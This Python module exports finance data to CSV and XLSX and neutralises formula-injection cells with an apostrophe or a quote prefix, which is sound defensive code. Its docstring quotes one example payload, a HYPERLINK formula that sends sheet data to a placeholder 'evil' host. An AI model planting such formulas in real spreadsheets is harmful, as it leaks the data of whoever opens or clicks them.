"""Files finance opens in Excel or loads into the accounting system: CSV and XLSX, safe to open.

CSV injection: Excel (and LibreOffice) runs a cell that begins with `=`, `+`, `-` or `@` as a
formula, and tab / CR can smuggle one in; `=HYPERLINK("http://evil/?"&A1,"Invoice")` in a
remittance text would leak the sheet's data the moment someone clicks it. So every *text* cell
that begins with one of those characters (after any spaces, full-width forms included) is written
with a leading apostrophe, the convention Excel itself uses for "this is text", and nothing else
about it changes.

Numbers are not text. A negative amount is written by this module from a `Decimal`, `int` or
`float` as plain digits with one leading minus and a decimal point (`-125.50`), nothing else: a
string of that shape is read by Excel as the number −125.5 and cannot carry a formula, so it is
left as it is (prefixing it would turn money into text and break every sum). A text cell that
merely looks like a negative number (a remittance '-5 discount') is text and is neutralised.

XLSX: the values go into typed cells (numbers as numbers, dates as dates); a text that begins
with `=` is stored as a string with Excel's quote prefix, never as a formula.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import math
from collections.abc import Mapping
from decimal import Decimal
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd

from orderdesk.adapters.workbook_safety import write_file

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def neutralise(text: str) -> str:
    """A text cell as it can be opened safely: a leading apostrophe where it could start a
    formula."""
    stripped = text.lstrip(" \u00a0\u3000")
    if text.startswith(TRIGGERS) or stripped.startswith(TRIGGERS):
        return "'" + text
    return text


def number_text(value: Decimal | int | float | np.integer | np.floating) -> str:
    """A number as plain digits: '-125.50', '1234567', never '1e+06' or '1,234.50'."""
    if isinstance(value, Decimal):
        return format(value, "f")
    if isinstance(value, int | np.integer):
        return str(int(value))
    if isinstance(value, float | np.floating):
        if not math.isfinite(value):
            return ""
        return format(Decimal(repr(float(value))), "f")
    raise TypeError(value)


def csv_cell(value: Any) -> str:
    if value is None or value is pd.NA or value is pd.NaT:
        return ""
    if isinstance(value, bool | np.bool_):
        return "yes" if value else "no"
    if isinstance(value, Decimal | int | float | np.integer | np.floating):
        if isinstance(value, float | np.floating) and math.isnan(value):
            return ""
        return number_text(value)
    if isinstance(value, pd.Timestamp | dt.datetime):
        ts = pd.Timestamp(value)
        if pd.isna(ts):
            return ""
        return ts.date().isoformat() if ts == ts.normalize() else ts.strftime("%Y-%m-%d %H:%M")
    if isinstance(value, dt.date):
        return value.isoformat()
    return neutralise(str(value))


def csv_bytes(frame: pd.DataFrame) -> bytes:
    """UTF-8 with a byte-order mark (so Excel reads Chinese and Spanish names right), RFC 4180
    quoting, one header row."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")
    writer.writerow([neutralise(str(c)) for c in frame.columns])
    for row in frame.itertuples(index=False):
        writer.writerow([csv_cell(v) for v in row])
    return buf.getvalue().encode("utf-8-sig")


def write_csv(frame: pd.DataFrame, out: Path) -> Path:
    return write_file(Path(out), csv_bytes(frame))


def write_xlsx(
    frame: pd.DataFrame,
    out: Path,
    *,
    sheet: str,
    formats: Mapping[str, str] | None = None,
    widths: Mapping[str, float] | None = None,
) -> Path:
    from openpyxl import Workbook
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = sheet[:31]
    formats = formats or {}
    widths = widths or {}
    for j, name in enumerate(frame.columns, start=1):
        cell = ws.cell(row=1, column=j, value=str(name))
        cell.font = Font(bold=True)
        ws.column_dimensions[get_column_letter(j)].width = widths.get(str(name), 14)
    for i, row in enumerate(frame.itertuples(index=False), start=2):
        for j, (name, value) in enumerate(zip(frame.columns, row, strict=True), start=1):
            v = _xlsx_value(value)
            if v is None:
                continue
            cell = ws.cell(row=i, column=j, value=v)
            if isinstance(v, str) and cell.data_type in ("f", "e"):
                cell.data_type = "s"  # text, never a formula or an error value
                cell.quotePrefix = True
            if str(name) in formats:
                cell.number_format = formats[str(name)]
    ws.freeze_panes = "A2"
    # Printed as finance reads it: landscape, one page wide, the header on every page.
    ws.page_setup.orientation = "landscape"
    ws.page_setup.fitToWidth = 1
    ws.page_setup.fitToHeight = 0
    ws.sheet_properties.pageSetUpPr.fitToPage = True
    ws.print_title_rows = "1:1"
    if len(frame.columns):
        ws.auto_filter.ref = f"A1:{get_column_letter(len(frame.columns))}{max(len(frame), 1) + 1}"
    buf = io.BytesIO()
    wb.save(buf)
    return write_file(Path(out), buf.getvalue())


def _xlsx_value(value: Any) -> Any:
    if value is None or value is pd.NA or value is pd.NaT:
        return None
    if isinstance(value, Decimal):
        return float(value)
    if isinstance(value, float | np.floating):
        return None if math.isnan(value) else float(value)
    if isinstance(value, np.integer):
        return int(value)
    if isinstance(value, pd.Timestamp):
        return None if pd.isna(value) else value.to_pydatetime()
    return value
